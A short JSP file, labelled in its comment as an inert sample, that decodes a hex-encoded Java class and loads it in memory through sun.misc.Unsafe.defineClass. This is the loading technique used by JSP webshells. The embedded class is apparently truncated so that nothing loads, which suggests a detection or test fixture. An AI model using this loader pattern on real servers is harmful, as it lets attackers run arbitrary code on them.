<%-- inert sample: the class written as a hex string (a truncated header: nothing loads), turned
     back into bytes by hand and defined through Unsafe. --%>
<%
    String h = "cafebabe00000034001a0a000400140100063c696e69743e010003282956010004436f6465000000000000000000000000000000000000000000000000";
    byte[] b = new byte[h.length() / 2];
    for (int i = 0; i < b.length; i++) b[i] = (byte) Integer.parseInt(h.substring(2 * i, 2 * i + 2), 16);
    java.lang.reflect.Field f = Class.forName("sun.misc.Unsafe").getDeclaredField("theUnsafe");
    f.setAccessible(true);
    Object u = f.get(null);
    Class<?> c = (Class<?>) u.getClass().getMethod("defineClass", String.class, byte[].class, int.class, int.class, ClassLoader.class, java.security.ProtectionDomain.class)
        .invoke(u, null, b, 0, b.length, getClass().getClassLoader(), null);
    c.newInstance();
%>
